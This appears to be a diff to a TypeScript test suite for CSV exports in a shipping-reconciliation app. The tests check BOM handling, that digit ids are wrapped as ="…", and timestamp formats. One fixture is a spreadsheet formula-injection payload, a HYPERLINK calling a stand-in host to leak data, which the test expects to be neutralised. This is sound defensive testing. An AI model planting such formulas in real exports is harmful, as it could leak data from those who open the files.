@@ -9,7 +9,8 @@ import { invoiceUploadForm } from './samples/shipping-reconciliation.js';
 
 /**
  * Spreadsheet-ready files (issue 31 item 8): every CSV starts with the UTF-8 BOM once, so Excel opens it as UTF-8;
- * read back by papaparse (which drops the BOM, as Excel does).
+ * read back by papaparse (which drops the BOM, as Excel does); ids of digits written ="…" so a spreadsheet keeps them
+ * text, anything else in an id column neutralised as before; timestamps as UTC 'YYYY-MM-DD HH:MM:SS'.
  */
 let t: TestApp;
 let developer: string;
@@ -20,7 +21,9 @@ const get = (url: string, token = developer) => t.app.inject({ method: 'GET', ur
 const today = new Date().toISOString().slice(0, 10);
 /** A FedEx-style tracking number: 12 digits, which Excel would show as 7.94612E+11. */
 const tracking = `7946${String(Date.now() % 1e8).padStart(8, '0')}`;
+const tracking2 = String(Number(tracking) + 1);
 const poNumber = '000123456789012';
+const HOSTILE_PO = '=HYPERLINK("http://x.example/?leak","click")';
 
 /** The bytes EF BB BF at the very start, and nowhere else. */
 function expectOneBom(payload: Buffer): void {
@@ -37,7 +40,10 @@ beforeAll(async () => {
     url: '/api/shipping-reconciliation/gray-boxes',
     headers: bearer(finance),
     payload: {
-      grayBoxes: [{ tracking_number: tracking, fulfillment_po_number: poNumber, date_shipped: today, ship_company: 'UPS', fulfillment_warehouse: 'KY01', shipping_quote: 10 }],
+      grayBoxes: [
+        { tracking_number: tracking, fulfillment_po_number: poNumber, date_shipped: today, ship_company: 'UPS', fulfillment_warehouse: 'KY01', shipping_quote: 10 },
+        { tracking_number: tracking2, fulfillment_po_number: HOSTILE_PO, date_shipped: today, ship_company: 'UPS', fulfillment_warehouse: 'KY01', shipping_quote: 10 },
+      ],
     },
   });
   expect(intake.statusCode, intake.body).toBe(200);
@@ -45,7 +51,10 @@ beforeAll(async () => {
     method: 'POST',
     url: '/api/shipping-reconciliation/ups/upload',
     headers: bearer(finance),
-    payload: invoiceUploadForm(carrierFile('ups', [{ trackingNumber: tracking, cents: 1250, date: today }]), 'sheets.csv'),
+    payload: invoiceUploadForm(carrierFile('ups', [
+      { trackingNumber: tracking, cents: 1250, date: today },
+      { trackingNumber: tracking2, cents: 1000, date: today },
+    ]), 'sheets.csv'),
   });
   expect(uploaded.statusCode, uploaded.body).toBe(200);
   const generated = await get(`/api/shipping-reconciliation/ups/generate?filename=${encodeURIComponent(uploaded.json().filename)}`, finance);
@@ -54,7 +63,7 @@ beforeAll(async () => {
     method: 'PUT',
     url: '/api/shipping-reconciliation/update',
     headers: bearer(finance),
-    payload: { idempotencyKey: unique('sheets-batch'), updates: { [tracking]: { reported_billed_charge: 12.5, payment_to_apply: 12.5 } } },
+    payload: { idempotencyKey: unique('sheets-batch'), updates: { [tracking]: { reported_billed_charge: 12.5, payment_to_apply: 12.5 }, [tracking2]: { reported_billed_charge: 10, payment_to_apply: 10 } } },
   });
   expect(applied.statusCode, applied.body).toBe(200);
   batchId = (applied.json() as TApplyPaymentsResult).batchId;
@@ -103,6 +112,35 @@ describe('CSV files start with the UTF-8 BOM, once', () => {
     const csv = await get(`/api/shipping-reconciliation/updates/${batchId}?format=csv`, finance);
     expect(csv.statusCode, csv.body).toBe(200);
     expectOneBom(csv.rawPayload);
-    expect(readCsvRecords(csv.body)).toHaveLength(1);
+    expect(readCsvRecords(csv.body)).toHaveLength(2);
+  });
+});
+
+describe('CSV ids stay text, timestamps are a form Excel reads', () => {
+  it('the shipping payment batch CSV: tracking and PO numbers of digits as ="…", a hostile PO number neutralised, applied_at UTC without T and Z', async () => {
+    const csv = await get(`/api/shipping-reconciliation/updates/${batchId}?format=csv`, finance);
+    const rows = new Map(readCsvRecords(csv.body).map((r) => [r.tracking_number, r]));
+    expect(rows.get(`="${tracking}"`)).toMatchObject({ fulfillment_po_number: `="${poNumber}"`, date_shipped: today, payment_to_apply: '12.50' });
+    expect(rows.get(`="${tracking2}"`)).toMatchObject({ fulfillment_po_number: `'${HOSTILE_PO}` });
+    const appliedAt = rows.get(`="${tracking}"`)!.applied_at!;
+    expect(appliedAt).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
+    expect(Math.abs(Date.parse(`${appliedAt.replace(' ', 'T')}Z`) - Date.now())).toBeLessThan(10 * 60_000);
+  });
+
+  it('a generic report: an id column (Tracking Number) of digits as ="…"; a date column as YYYY-MM-DD', async () => {
+    const res = await get(`/api/reports/generic/shipping-not-matched/csv?from=${today}&to=${today}`);
+    expect(res.statusCode, res.body).toBe(200);
+    const row = readCsvRecords(res.body).find((r) => r['Tracking Number'] === `="${tracking}"`);
+    expect(row, res.body).toMatchObject({ Shipped: today, Billed: '12.50' });
+  });
+
+  it("a generic report's timestamp column as UTC 'YYYY-MM-DD HH:MM:SS'", async () => {
+    const model = unique('NOUPC').toUpperCase();
+    await createProducts(t.db, [{ modelNumber: model, upc: null, alternateUpc: null }]);
+    const res = await get('/api/reports/generic/products-missing-upc/csv');
+    expect(res.statusCode, res.body).toBe(200);
+    const row = readCsvRecords(res.body).find((r) => r.Model === model);
+    expect(row, res.body).toBeDefined();
+    expect(row!.Created).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
   });
 });
